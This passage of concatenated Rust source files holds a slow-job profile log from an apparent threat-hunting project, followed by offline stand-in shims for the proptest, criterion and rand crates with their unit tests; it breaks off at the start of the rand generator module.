            capacity: capacity.max(1),
            entries: Mutex::new(Vec::new()),
        }
    }

    /// Records a completed job's profile, evicting the fastest entry
    /// when the log is over capacity.
    pub(crate) fn record(&self, profile: HuntProfile) {
        let mut entries = self.entries.lock().unwrap_or_else(PoisonError::into_inner);
        // Kept sorted: latency descending, job id ascending on ties —
        // insertion point by binary search, then truncate to capacity.
        let key = (std::cmp::Reverse(profile.latency), profile.job_id);
        let at = entries.partition_point(|e| (std::cmp::Reverse(e.latency), e.job_id) <= key);
        entries.insert(at, Arc::new(profile));
        entries.truncate(self.capacity);
    }

    /// The retained profiles, slowest first.
    pub(crate) fn slow_hunts(&self) -> Vec<Arc<HuntProfile>> {
        self.entries
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .clone()
    }

    /// The retained profile of `id`, if it is (still) among the
    /// worst-N.
    pub(crate) fn profile(&self, id: JobId) -> Option<Arc<HuntProfile>> {
        self.entries
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .iter()
            .find(|e| e.job_id == id)
            .cloned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use threatraptor_obs::TraceId;

    fn profile(job: u64, latency_us: u64) -> HuntProfile {
        HuntProfile {
            job_id: JobId(job),
            trace_id: TraceId(job),
            tbql: None,
            status: "ok",
            cache_hit: false,
            matches: 0,
            queue_wait: Duration::ZERO,
            exec: Duration::ZERO,
            latency: Duration::from_micros(latency_us),
            trace: TraceTree::with_id(TraceId(job), "job"),
        }
    }

    #[test]
    fn retains_worst_n_sorted() {
        let log = SlowHuntLog::new(3);
        for (job, lat) in [(0, 50), (1, 900), (2, 10), (3, 700), (4, 300)] {
            log.record(profile(job, lat));
        }
        let kept: Vec<(u64, u128)> = log
            .slow_hunts()
            .iter()
            .map(|p| (p.job_id.0, p.latency.as_micros()))
            .collect();
        assert_eq!(kept, vec![(1, 900), (3, 700), (4, 300)]);
        assert!(log.profile(JobId(1)).is_some());
        assert!(log.profile(JobId(2)).is_none(), "evicted: too fast");
    }

    #[test]
    fn ties_prefer_earlier_jobs() {
        let log = SlowHuntLog::new(2);
        for job in [5, 3, 9] {
            log.record(profile(job, 100));
        }
        let kept: Vec<u64> = log.slow_hunts().iter().map(|p| p.job_id.0).collect();
        assert_eq!(kept, vec![3, 5]);
    }

    #[test]
    fn concurrent_records_keep_exactly_the_worst_n() {
        let log = Arc::new(SlowHuntLog::new(8));
        // 16 threads × 16 profiles with distinct latencies 1..=256 µs,
        // interleaved arbitrarily.
        std::thread::scope(|scope| {
            for t in 0..16u64 {
                let log = Arc::clone(&log);
                scope.spawn(move || {
                    for i in 0..16u64 {
                        let latency = t * 16 + i + 1;
                        log.record(profile(t * 16 + i, latency));
                    }
                });
            }
        });
        let kept: Vec<u128> = log
            .slow_hunts()
            .iter()
            .map(|p| p.latency.as_micros())
            .collect();
        // Exactly the 8 largest latencies, in descending order.
        assert_eq!(kept, (249u128..=256).rev().collect::<Vec<_>>());
    }
}
