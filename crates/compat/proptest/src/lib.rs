//! Offline shim for the subset of the `proptest` API this workspace uses.
//!
//! The build environment has no registry access, so this in-tree crate
//! stands in for the real `proptest`. Supported surface:
//!
//! * the [`proptest!`] macro (with optional `#![proptest_config(..)]`),
//!   expanding each `fn name(arg in strategy, ..) { body }` into a `#[test]`
//!   that runs the body over `cases` generated inputs;
//! * [`prop_assert!`] / [`prop_assert_eq!`];
//! * strategies: integer ranges, `"[class]{m,n}"` string patterns (the
//!   character-class/repeat subset of proptest's regex strategies),
//!   [`any`]`::<T>()`, tuples, [`prop::collection::vec`],
//!   [`prop::sample::select`], and [`Strategy::prop_map`];
//! * [`ProptestConfig::with_cases`].
//!
//! Shrinking is not implemented: a failing case panics with the generated
//! inputs printed, which is enough to reproduce (generation is
//! deterministic per test name and case index).

use std::fmt;
use std::ops::{Range, RangeInclusive};

pub mod prelude {
    //! One-stop imports, mirroring `proptest::prelude`.
    pub use crate::{
        any, prop, prop_assert, prop_assert_eq, proptest, ProptestConfig, Strategy, TestCaseError,
    };
}

/// Runner configuration (subset of `proptest::test_runner::Config`).
#[derive(Debug, Clone)]
pub struct ProptestConfig {
    /// Number of generated cases per property.
    pub cases: u32,
}

impl Default for ProptestConfig {
    fn default() -> ProptestConfig {
        // Upstream defaults to 256; 64 keeps the heavier simulation-backed
        // properties in this workspace fast while still exploring broadly.
        ProptestConfig { cases: 64 }
    }
}

impl ProptestConfig {
    /// Config running `cases` cases.
    pub fn with_cases(cases: u32) -> ProptestConfig {
        ProptestConfig { cases }
    }
}

/// A failed property case (subset of `proptest::test_runner::TestCaseError`).
#[derive(Debug, Clone)]
pub struct TestCaseError {
    message: String,
}

impl TestCaseError {
    /// A failure carrying `message`.
    pub fn fail(message: impl Into<String>) -> TestCaseError {
        TestCaseError {
            message: message.into(),
        }
    }
}

impl fmt::Display for TestCaseError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.message)
    }
}

/// Deterministic per-case generator (xorshift64*).
#[derive(Debug, Clone)]
pub struct TestRng {
    state: u64,
}

impl TestRng {
    /// Creates the generator for `(test, case)`; fully deterministic.
    pub fn for_case(test: &str, case: u64) -> TestRng {
        let mut h: u64 = 0xcbf2_9ce4_8422_2325;
        for b in test.bytes() {
            h = (h ^ b as u64).wrapping_mul(0x100_0000_01b3);
        }
        h = (h ^ case).wrapping_mul(0x100_0000_01b3);
        TestRng {
            state: h | 1, // xorshift state must be non-zero
        }
    }

    /// Next 64 uniform bits.
    pub fn next_u64(&mut self) -> u64 {
        let mut x = self.state;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.state = x;
        x.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    /// Uniform value in `[0, n)`; `n` must be non-zero.
    pub fn below(&mut self, n: u64) -> u64 {
        self.next_u64() % n
    }
}

/// A value generator (subset of `proptest::strategy::Strategy`).
pub trait Strategy {
    /// The generated type.
    type Value;

    /// Generates one value.
    fn generate(&self, rng: &mut TestRng) -> Self::Value;

    /// Maps generated values through `f`.
    fn prop_map<O, F>(self, f: F) -> Map<Self, F>
    where
        Self: Sized,
        F: Fn(Self::Value) -> O,
    {
        Map { inner: self, f }
    }
}

/// Output of [`Strategy::prop_map`].
#[derive(Debug, Clone)]
pub struct Map<S, F> {
    inner: S,
    f: F,
}

impl<S: Strategy, O, F: Fn(S::Value) -> O> Strategy for Map<S, F> {
    type Value = O;

    fn generate(&self, rng: &mut TestRng) -> O {
        (self.f)(self.inner.generate(rng))
    }
}

macro_rules! impl_int_range_strategy {
    ($($t:ty),*) => {$(
        impl Strategy for Range<$t> {
            type Value = $t;

            fn generate(&self, rng: &mut TestRng) -> $t {
                assert!(self.start < self.end, "empty range strategy");
                let span = (self.end as i128 - self.start as i128) as u128;
                let v = (rng.next_u64() as u128) % span;
                (self.start as i128 + v as i128) as $t
            }
        }
        impl Strategy for RangeInclusive<$t> {
            type Value = $t;

            fn generate(&self, rng: &mut TestRng) -> $t {
                let (lo, hi) = (*self.start(), *self.end());
                assert!(lo <= hi, "empty range strategy");
                let span = (hi as i128 - lo as i128 + 1) as u128;
                let v = (rng.next_u64() as u128) % span;
                (lo as i128 + v as i128) as $t
            }
        }
    )*};
}

impl_int_range_strategy!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

/// String pattern strategies: proptest treats `&str` strategies as regexes;
/// this shim supports sequences of atoms (`[class]`, `\x`, or a literal
/// char), each optionally repeated `{m,n}` — the subset used in-tree.
impl Strategy for &str {
    type Value = String;

    fn generate(&self, rng: &mut TestRng) -> String {
        let atoms = parse_pattern(self);
        let mut out = String::new();
        for atom in &atoms {
            let n = atom.min_rep + rng.below((atom.max_rep - atom.min_rep + 1) as u64) as u32;
            for _ in 0..n {
                let i = rng.below(atom.choices.len() as u64) as usize;
                out.push(atom.choices[i]);
            }
        }
        out
    }
}

struct PatternAtom {
    choices: Vec<char>,
    min_rep: u32,
    max_rep: u32,
}

fn parse_pattern(pattern: &str) -> Vec<PatternAtom> {
    let chars: Vec<char> = pattern.chars().collect();
    let mut atoms = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        let choices = match chars[i] {
            '[' => {
                let mut set = Vec::new();
                i += 1;
                while i < chars.len() && chars[i] != ']' {
                    if chars[i] == '\\' && i + 1 < chars.len() {
                        set.push(chars[i + 1]);
                        i += 2;
                    } else if i + 2 < chars.len() && chars[i + 1] == '-' && chars[i + 2] != ']' {
                        let (lo, hi) = (chars[i], chars[i + 2]);
                        assert!(lo <= hi, "bad class range in pattern `{pattern}`");
                        for c in lo..=hi {
                            set.push(c);
                        }
                        i += 3;
                    } else {
                        set.push(chars[i]);
                        i += 1;
                    }
                }
                assert!(
                    i < chars.len(),
                    "unterminated character class in pattern `{pattern}`"
                );
                i += 1; // consume ']'
                set
            }
            '\\' => {
                assert!(
                    i + 1 < chars.len(),
                    "dangling escape in pattern `{pattern}`"
                );
                let c = chars[i + 1];
                i += 2;
                vec![c]
            }
            c => {
                i += 1;
                vec![c]
            }
        };
        assert!(!choices.is_empty(), "empty character class in `{pattern}`");
        // Optional {m,n} / {m} quantifier.
        let (min_rep, max_rep) = if i < chars.len() && chars[i] == '{' {
            let close = chars[i..]
                .iter()
                .position(|&c| c == '}')
                .map(|p| i + p)
                .unwrap_or_else(|| panic!("unterminated quantifier in `{pattern}`"));
            let body: String = chars[i + 1..close].iter().collect();
            i = close + 1;
            match body.split_once(',') {
                Some((m, n)) => (
                    m.trim().parse().expect("quantifier min"),
                    n.trim().parse().expect("quantifier max"),
                ),
                None => {
                    let m: u32 = body.trim().parse().expect("quantifier count");
                    (m, m)
                }
            }
        } else {
            (1, 1)
        };
        assert!(min_rep <= max_rep, "inverted quantifier in `{pattern}`");
        atoms.push(PatternAtom {
            choices,
            min_rep,
            max_rep,
        });
    }
    atoms
}

macro_rules! impl_tuple_strategy {
    ($(($($s:ident . $idx:tt),+)),+ $(,)?) => {$(
        impl<$($s: Strategy),+> Strategy for ($($s,)+) {
            type Value = ($($s::Value,)+);

            fn generate(&self, rng: &mut TestRng) -> Self::Value {
                ($(self.$idx.generate(rng),)+)
            }
        }
    )+};
}

impl_tuple_strategy! {
    (A.0),
    (A.0, B.1),
    (A.0, B.1, C.2),
    (A.0, B.1, C.2, D.3),
    (A.0, B.1, C.2, D.3, E.4),
    (A.0, B.1, C.2, D.3, E.4, F.5),
    (A.0, B.1, C.2, D.3, E.4, F.5, G.6),
    (A.0, B.1, C.2, D.3, E.4, F.5, G.6, H.7),
}

/// Types with a canonical strategy (subset of `proptest::arbitrary`).
pub trait Arbitrary: Sized {
    /// Generates one arbitrary value.
    fn arbitrary(rng: &mut TestRng) -> Self;
}

impl Arbitrary for bool {
    fn arbitrary(rng: &mut TestRng) -> bool {
        rng.next_u64() & 1 == 1
    }
}

macro_rules! impl_arbitrary_int {
    ($($t:ty),*) => {$(
        impl Arbitrary for $t {
            fn arbitrary(rng: &mut TestRng) -> $t {
                rng.next_u64() as $t
            }
        }
    )*};
}

impl_arbitrary_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

/// Strategy produced by [`any`].
#[derive(Debug, Clone, Copy)]
pub struct Any<T> {
    _marker: std::marker::PhantomData<T>,
}

impl<T: Arbitrary> Strategy for Any<T> {
    type Value = T;

    fn generate(&self, rng: &mut TestRng) -> T {
        T::arbitrary(rng)
    }
}

/// The canonical strategy for `T` (mirrors `proptest::prelude::any`).
pub fn any<T: Arbitrary>() -> Any<T> {
    Any {
        _marker: std::marker::PhantomData,
    }
}

pub mod prop {
    //! The `prop::` namespace (`collection`, `sample`).

    pub mod collection {
        //! Collection strategies.
        use crate::{Strategy, TestRng};
        use std::ops::Range;

        /// Length bounds for [`vec`].
        #[derive(Debug, Clone, Copy)]
        pub struct SizeRange {
            lo: usize,
            hi: usize, // exclusive
        }

        impl From<Range<usize>> for SizeRange {
            fn from(r: Range<usize>) -> SizeRange {
                assert!(r.start < r.end, "empty size range");
                SizeRange {
                    lo: r.start,
                    hi: r.end,
                }
            }
        }

        impl From<usize> for SizeRange {
            fn from(n: usize) -> SizeRange {
                SizeRange { lo: n, hi: n + 1 }
            }
        }

        /// Vec strategy over an element strategy.
        #[derive(Debug, Clone)]
        pub struct VecStrategy<S> {
            element: S,
            size: SizeRange,
        }

        /// `Vec<T>` of a length drawn from `size`, elements from `element`.
        pub fn vec<S: Strategy>(element: S, size: impl Into<SizeRange>) -> VecStrategy<S> {
            VecStrategy {
                element,
                size: size.into(),
            }
        }

        impl<S: Strategy> Strategy for VecStrategy<S> {
            type Value = Vec<S::Value>;

            fn generate(&self, rng: &mut TestRng) -> Vec<S::Value> {
                let span = (self.size.hi - self.size.lo) as u64;
                let len = self.size.lo + rng.below(span) as usize;
                (0..len).map(|_| self.element.generate(rng)).collect()
            }
        }
    }

    pub mod bool {
        //! Boolean strategies.
        use crate::{Strategy, TestRng};

        /// Strategy producing `true` with the given probability.
        #[derive(Debug, Clone, Copy)]
        pub struct Weighted {
            probability: f64,
        }

        /// `true` with probability `probability` (clamped to `[0, 1]`).
        pub fn weighted(probability: f64) -> Weighted {
            Weighted {
                probability: probability.clamp(0.0, 1.0),
            }
        }

        impl Strategy for Weighted {
            type Value = bool;

            fn generate(&self, rng: &mut TestRng) -> bool {
                // 53 bits of uniform randomness → [0, 1).
                let unit = (rng.next_u64() >> 11) as f64 / (1u64 << 53) as f64;
                unit < self.probability
            }
        }
    }

    pub mod sample {
        //! Sampling strategies.
        use crate::{Strategy, TestRng};

        /// Strategy choosing one element of a fixed pool.
        #[derive(Debug, Clone)]
        pub struct Select<T> {
            pool: Vec<T>,
        }

        /// Uniform choice from `pool` (must be non-empty).
        pub fn select<T: Clone>(pool: Vec<T>) -> Select<T> {
            assert!(!pool.is_empty(), "select over an empty pool");
            Select { pool }
        }

        impl<T: Clone> Strategy for Select<T> {
            type Value = T;

            fn generate(&self, rng: &mut TestRng) -> T {
                self.pool[rng.below(self.pool.len() as u64) as usize].clone()
            }
        }
    }
}

/// Asserts a condition inside a property, failing the case (not the whole
/// process) on violation.
#[macro_export]
macro_rules! prop_assert {
    ($cond:expr) => {
        $crate::prop_assert!($cond, concat!("assertion failed: ", stringify!($cond)))
    };
    ($cond:expr, $($fmt:tt)*) => {
        if !$cond {
            return ::std::result::Result::Err($crate::TestCaseError::fail(format!($($fmt)*)));
        }
    };
}

/// Asserts equality inside a property.
#[macro_export]
macro_rules! prop_assert_eq {
    ($left:expr, $right:expr $(,)?) => {{
        let (l, r) = (&$left, &$right);
        $crate::prop_assert!(
            *l == *r,
            "assertion failed: `{:?}` == `{:?}`",
            l,
            r
        );
    }};
    ($left:expr, $right:expr, $($fmt:tt)*) => {{
        let (l, r) = (&$left, &$right);
        $crate::prop_assert!(
            *l == *r,
            "assertion failed: `{:?}` == `{:?}`: {}",
            l,
            r,
            format!($($fmt)*)
        );
    }};
}

/// Declares property tests, mirroring `proptest::proptest!`.
#[macro_export]
macro_rules! proptest {
    (#![proptest_config($cfg:expr)] $($rest:tt)*) => {
        $crate::__proptest_impl! { cfg = ($cfg); $($rest)* }
    };
    ($($rest:tt)*) => {
        $crate::__proptest_impl! { cfg = ($crate::ProptestConfig::default()); $($rest)* }
    };
}

#[doc(hidden)]
#[macro_export]
macro_rules! __proptest_impl {
    (cfg = ($cfg:expr);) => {};
    (cfg = ($cfg:expr);
     $(#[$meta:meta])*
     fn $name:ident($($arg:ident in $strat:expr),+ $(,)?) $body:block
     $($rest:tt)*
    ) => {
        // `$meta` carries the caller's `#[test]` attribute (and doc
        // comments), matching real proptest's expansion.
        $(#[$meta])*
        fn $name() {
            let config: $crate::ProptestConfig = $cfg;
            for case in 0..config.cases as u64 {
                let mut rng = $crate::TestRng::for_case(
                    concat!(module_path!(), "::", stringify!($name)),
                    case,
                );
                $(let $arg = $crate::Strategy::generate(&($strat), &mut rng);)+
                let inputs = format!(
                    concat!($("\n  ", stringify!($arg), " = {:?}",)+),
                    $(&$arg,)+
                );
                let outcome = ::std::panic::catch_unwind(
                    ::std::panic::AssertUnwindSafe(move || -> ::std::result::Result<(), $crate::TestCaseError> {
                        $body
                        ::std::result::Result::Ok(())
                    }),
                );
                match outcome {
                    Ok(Ok(())) => {}
                    Ok(Err(e)) => panic!(
                        "proptest property `{}` failed at case {}: {}\ninputs:{}",
                        stringify!($name), case, e, inputs,
                    ),
                    Err(payload) => {
                        eprintln!(
                            "proptest property `{}` panicked at case {}\ninputs:{}",
                            stringify!($name), case, inputs,
                        );
                        ::std::panic::resume_unwind(payload);
                    }
                }
            }
        }
        $crate::__proptest_impl! { cfg = ($cfg); $($rest)* }
    };
}

#[cfg(test)]
mod tests {
    use super::prelude::*;
    use super::*;

    #[test]
    fn pattern_strategies_respect_class_and_bounds() {
        let mut rng = TestRng::for_case("pattern", 0);
        for case in 0..200 {
            let mut rng2 = TestRng::for_case("pattern", case);
            let s = "[ab%_]{0,8}".generate(&mut rng2);
            assert!(s.len() <= 8);
            assert!(s.chars().all(|c| "ab%_".contains(c)));
        }
        let s = r"x\[y".generate(&mut rng);
        assert_eq!(s, "x[y");
        let s = "[a-c]{4}".generate(&mut rng);
        assert_eq!(s.len(), 4);
        assert!(s.chars().all(|c| ('a'..='c').contains(&c)));
    }

    #[test]
    fn escaped_metachars_in_classes() {
        let mut rng = TestRng::for_case("esc", 3);
        for _ in 0..100 {
            let s = r"[ab.\*\+\?\|\(\)\[\]0-9]{0,10}".generate(&mut rng);
            assert!(s.len() <= 10);
            assert!(s.chars().all(|c| "ab.*+?|()[]0123456789".contains(c)));
        }
    }

    #[test]
    fn deterministic_per_case() {
        let a = "[a-z]{0,12}".generate(&mut TestRng::for_case("t", 5));
        let b = "[a-z]{0,12}".generate(&mut TestRng::for_case("t", 5));
        assert_eq!(a, b);
    }

    #[test]
    fn composite_strategies() {
        let mut rng = TestRng::for_case("composite", 1);
        let strat = prop::collection::vec((0u32..4, prop::sample::select(vec!["x", "y"])), 0..40)
            .prop_map(|v| v.len());
        for _ in 0..50 {
            assert!(strat.generate(&mut rng) < 40);
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(16))]

        #[test]
        fn macro_end_to_end(n in 1usize..50, s in "[ab]{1,6}", flip in any::<bool>()) {
            prop_assert!((1..50).contains(&n));
            prop_assert!(!s.is_empty() && s.len() <= 6);
            prop_assert_eq!(flip as u8 <= 1, true);
        }
    }

    mod failure_reporting {
        use super::*;

        proptest! {
            #![proptest_config(ProptestConfig::with_cases(2))]

            /// Failing cases must panic with the generated inputs printed.
            #[test]
            #[should_panic(expected = "inputs:")]
            fn failures_report_inputs(n in 0u32..4) {
                prop_assert!(n > 100, "n was {}", n);
            }
        }
    }
}
