//! Offline shim for the subset of the `criterion` 0.5 API this workspace
//! uses. It implements a small wall-clock benchmark harness with the same
//! call surface (`benchmark_group`, `bench_function`, `bench_with_input`,
//! `Throughput`, `BenchmarkId`, `criterion_group!`, `criterion_main!`) and
//! plain-text reporting. Statistical analysis, plotting, and baselines of
//! real criterion are out of scope; each benchmark reports the median,
//! mean, and min of `sample_size` timed samples.
//!
//! Like real criterion, benches run under `cargo test` (which passes
//! `--test`) execute one iteration per benchmark as a smoke test.

use std::time::{Duration, Instant};

pub use std::hint::black_box;

/// Throughput annotation for a benchmark group.
#[derive(Debug, Clone, Copy)]
pub enum Throughput {
    /// Input size in bytes per iteration.
    Bytes(u64),
    /// Input size in elements per iteration.
    Elements(u64),
}

/// A benchmark identifier: function/name plus an optional parameter.
#[derive(Debug, Clone)]
pub struct BenchmarkId {
    name: String,
}

impl BenchmarkId {
    /// `name/parameter` identifier.
    pub fn new(name: impl std::fmt::Display, parameter: impl std::fmt::Display) -> BenchmarkId {
        BenchmarkId {
            name: format!("{name}/{parameter}"),
        }
    }

    /// Identifier that is just the parameter.
    pub fn from_parameter(parameter: impl std::fmt::Display) -> BenchmarkId {
        BenchmarkId {
            name: parameter.to_string(),
        }
    }
}

/// The timing loop handle passed to benchmark closures.
pub struct Bencher<'c> {
    config: &'c Config,
    /// Collected per-sample mean iteration times.
    samples: Vec<Duration>,
}

impl Bencher<'_> {
    /// Times `routine`, collecting `sample_size` samples after warm-up.
    pub fn iter<O, R: FnMut() -> O>(&mut self, mut routine: R) {
        if self.config.test_mode {
            black_box(routine());
            self.samples.push(Duration::ZERO);
            return;
        }
        // Warm-up: determine an iteration count targeting ~`sample_ms` per
        // sample, with at least one iteration.
        let t0 = Instant::now();
        black_box(routine());
        let once = t0.elapsed().max(Duration::from_nanos(1));
        let target = Duration::from_millis(self.config.sample_ms);
        let iters = (target.as_nanos() / once.as_nanos()).clamp(1, 1_000_000) as u64;

        for _ in 0..self.config.sample_size {
            let t0 = Instant::now();
            for _ in 0..iters {
                black_box(routine());
            }
            self.samples.push(t0.elapsed() / iters as u32);
        }
    }
}

#[derive(Debug, Clone)]
struct Config {
    sample_size: usize,
    sample_ms: u64,
    test_mode: bool,
    filter: Option<String>,
}

/// The harness entry point (mirrors `criterion::Criterion`).
#[derive(Debug, Clone)]
pub struct Criterion {
    config: Config,
}

impl Default for Criterion {
    fn default() -> Criterion {
        let args: Vec<String> = std::env::args().collect();
        // Like real criterion: `cargo bench` passes `--bench`, while
        // `cargo test` (which also runs `[[bench]]` targets) does not —
        // so the *absence* of `--bench` means "run once as a smoke test".
        // The first free argument (not a flag) is a name filter.
        let test_mode = !args.iter().any(|a| a == "--bench");
        let filter = args.iter().skip(1).find(|a| !a.starts_with('-')).cloned();
        Criterion {
            config: Config {
                sample_size: 20,
                sample_ms: 20,
                test_mode,
                filter,
            },
        }
    }
}

impl Criterion {
    /// Sets the number of timed samples per benchmark.
    pub fn sample_size(mut self, n: usize) -> Criterion {
        self.config.sample_size = n.max(2);
        self
    }

    /// Opens a named benchmark group.
    pub fn benchmark_group(&mut self, name: impl Into<String>) -> BenchmarkGroup<'_> {
        BenchmarkGroup {
            criterion: self,
            name: name.into(),
            throughput: None,
        }
    }
}

/// A group of related benchmarks (mirrors `criterion::BenchmarkGroup`).
pub struct BenchmarkGroup<'c> {
    criterion: &'c mut Criterion,
    name: String,
    throughput: Option<Throughput>,
}

impl BenchmarkGroup<'_> {
    /// Sets the throughput used to derive rate columns for subsequent
    /// benchmarks in this group.
    pub fn throughput(&mut self, throughput: Throughput) {
        self.throughput = Some(throughput);
    }

    /// Benchmarks `routine` under `id`.
    pub fn bench_function<F>(&mut self, id: impl IntoBenchmarkId, mut routine: F)
    where
        F: FnMut(&mut Bencher<'_>),
    {
        let id = id.into_benchmark_id();
        self.run(&id.name, |b| routine(b));
    }

    /// Benchmarks `routine` with a borrowed input under `id`.
    pub fn bench_with_input<I: ?Sized, F>(&mut self, id: BenchmarkId, input: &I, mut routine: F)
    where
        F: FnMut(&mut Bencher<'_>, &I),
    {
        self.run(&id.name, |b| routine(b, input));
    }

    /// Closes the group (reporting happens eagerly; kept for API parity).
    pub fn finish(self) {}

    fn run(&mut self, bench_name: &str, mut routine: impl FnMut(&mut Bencher<'_>)) {
        let full = format!("{}/{}", self.name, bench_name);
        if let Some(f) = &self.criterion.config.filter {
            if !full.contains(f.as_str()) {
                return;
            }
        }
        let mut bencher = Bencher {
            config: &self.criterion.config,
            samples: Vec::new(),
        };
        routine(&mut bencher);
        if self.criterion.config.test_mode {
            println!("test {full} ... ok (1 iteration, test mode)");
            return;
        }
        let mut samples = bencher.samples;
        if samples.is_empty() {
            println!("{full:<40} (no samples collected)");
            return;
        }
        samples.sort();
        let median = samples[samples.len() / 2];
        let min = samples[0];
        let mean = samples.iter().sum::<Duration>() / samples.len() as u32;
        let rate = self.throughput.map(|t| match t {
            Throughput::Bytes(n) => format!(
                "  {:>10.1} MiB/s",
                n as f64 / median.as_secs_f64().max(1e-12) / (1024.0 * 1024.0)
            ),
            Throughput::Elements(n) => format!(
                "  {:>12.0} elem/s",
                n as f64 / median.as_secs_f64().max(1e-12)
            ),
        });
        println!(
            "{full:<44} median {:>12?}  mean {:>12?}  min {:>12?}{}",
            median,
            mean,
            min,
            rate.unwrap_or_default()
        );
    }
}

/// Conversion into a [`BenchmarkId`] (string names or explicit ids).
pub trait IntoBenchmarkId {
    /// Converts the value.
    fn into_benchmark_id(self) -> BenchmarkId;
}

impl IntoBenchmarkId for BenchmarkId {
    fn into_benchmark_id(self) -> BenchmarkId {
        self
    }
}

impl IntoBenchmarkId for &str {
    fn into_benchmark_id(self) -> BenchmarkId {
        BenchmarkId {
            name: self.to_string(),
        }
    }
}

impl IntoBenchmarkId for String {
    fn into_benchmark_id(self) -> BenchmarkId {
        BenchmarkId { name: self }
    }
}

/// Declares a benchmark group, mirroring `criterion::criterion_group!`.
#[macro_export]
macro_rules! criterion_group {
    (name = $name:ident; config = $config:expr; targets = $($target:path),+ $(,)?) => {
        fn $name() {
            $(
                let mut criterion: $crate::Criterion = $config;
                $target(&mut criterion);
            )+
        }
    };
    ($name:ident, $($target:path),+ $(,)?) => {
        $crate::criterion_group! {
            name = $name;
            config = $crate::Criterion::default();
            targets = $($target),+
        }
    };
}

/// Declares the bench entry point, mirroring `criterion::criterion_main!`.
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $( $group(); )+
        }
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ids_format() {
        assert_eq!(BenchmarkId::new("a", 3).name, "a/3");
        assert_eq!(BenchmarkId::from_parameter(7).name, "7");
    }

    #[test]
    fn bencher_collects_samples() {
        let config = Config {
            sample_size: 3,
            sample_ms: 1,
            test_mode: false,
            filter: None,
        };
        let mut b = Bencher {
            config: &config,
            samples: Vec::new(),
        };
        b.iter(|| black_box(2u64 + 2));
        assert_eq!(b.samples.len(), 3);
    }

    #[test]
    fn test_mode_runs_once() {
        let config = Config {
            sample_size: 10,
            sample_ms: 1,
            test_mode: true,
            filter: None,
        };
        let mut b = Bencher {
            config: &config,
            samples: Vec::new(),
        };
        let mut runs = 0;
        b.iter(|| runs += 1);
        assert_eq!(runs, 1);
    }
}
