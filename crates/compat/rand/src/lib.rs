//! Offline shim for the subset of the `rand` 0.9 API this workspace uses.
//!
//! The build environment has no registry access, so this in-tree crate
//! stands in for the real `rand`. It provides:
//!
//! * [`rngs::StdRng`] — a seedable, deterministic generator
//!   (xoshiro256++ seeded through SplitMix64). The *stream* differs from
//!   upstream `StdRng` (ChaCha12), but all workspace users only require
//!   determinism per seed, not a specific stream;
//! * the [`Rng`] extension trait with `random_range` / `random_bool`;
//! * [`SeedableRng::seed_from_u64`];
//! * [`seq::IndexedRandom::choose`] for slices.

/// Core trait for generators: a source of uniform 64-bit words.
pub trait RngCore {
    /// Returns the next 64 uniformly distributed bits.
    fn next_u64(&mut self) -> u64;

    /// Returns the next 32 uniformly distributed bits.
    fn next_u32(&mut self) -> u32 {
        (self.next_u64() >> 32) as u32
    }
}

/// Seedable generators (subset of `rand::SeedableRng`).
pub trait SeedableRng: Sized {
    /// Creates a generator from a `u64` seed.
    fn seed_from_u64(seed: u64) -> Self;
}

/// Integer types with a uniform sampler (subset of
/// `rand::distr::uniform::SampleUniform`). The order-preserving `u128`
/// index mapping makes one blanket [`SampleRange`] impl cover signed and
/// unsigned widths alike — and a blanket impl (rather than one impl per
/// type) is what lets the range's literal type unify with the call site's
/// expected return type during inference, as with the real `rand`.
pub trait SampleUniform: Copy + PartialOrd {
    /// Maps the value to an order-preserving `u128` index.
    fn to_index(self) -> u128;
    /// Inverse of [`SampleUniform::to_index`].
    fn from_index(index: u128) -> Self;
}

macro_rules! impl_sample_uniform_unsigned {
    ($($t:ty),*) => {$(
        impl SampleUniform for $t {
            fn to_index(self) -> u128 {
                self as u128
            }
            fn from_index(index: u128) -> $t {
                index as $t
            }
        }
    )*};
}

macro_rules! impl_sample_uniform_signed {
    ($($t:ty),*) => {$(
        impl SampleUniform for $t {
            fn to_index(self) -> u128 {
                (self as i128).wrapping_sub(<$t>::MIN as i128) as u128
            }
            fn from_index(index: u128) -> $t {
                (index as i128).wrapping_add(<$t>::MIN as i128) as $t
            }
        }
    )*};
}

impl_sample_uniform_unsigned!(u8, u16, u32, u64, usize);
impl_sample_uniform_signed!(i8, i16, i32, i64, isize);

/// A range that can be sampled uniformly to produce a `T`.
pub trait SampleRange<T> {
    /// Samples one value from the range. Panics on an empty range.
    fn sample<R: RngCore + ?Sized>(self, rng: &mut R) -> T;
}

impl<T: SampleUniform> SampleRange<T> for core::ops::Range<T> {
    fn sample<R: RngCore + ?Sized>(self, rng: &mut R) -> T {
        assert!(self.start < self.end, "cannot sample empty range");
        let lo = self.start.to_index();
        let span = self.end.to_index() - lo;
        T::from_index(lo + (rng.next_u64() as u128) % span)
    }
}

impl<T: SampleUniform> SampleRange<T> for core::ops::RangeInclusive<T> {
    fn sample<R: RngCore + ?Sized>(self, rng: &mut R) -> T {
        let (lo, hi) = (*self.start(), *self.end());
        assert!(lo <= hi, "cannot sample empty range");
        let lo = lo.to_index();
        let span = hi.to_index() - lo + 1;
        T::from_index(lo + (rng.next_u64() as u128) % span)
    }
}

/// User-facing extension trait (subset of `rand::Rng`).
pub trait Rng: RngCore {
    /// Samples a value uniformly from `range`.
    fn random_range<T, Rg: SampleRange<T>>(&mut self, range: Rg) -> T {
        range.sample(self)
    }

    /// Returns `true` with probability `p` (clamped to `[0, 1]`).
    fn random_bool(&mut self, p: f64) -> bool {
        let p = p.clamp(0.0, 1.0);
        // 53 uniform mantissa bits, exactly like upstream's `f64` sampling.
        let unit = (self.next_u64() >> 11) as f64 * (1.0 / (1u64 << 53) as f64);
        unit < p
    }
}

impl<T: RngCore + ?Sized> Rng for T {}

/// Generator implementations.
pub mod rngs {
    use super::{RngCore, SeedableRng};

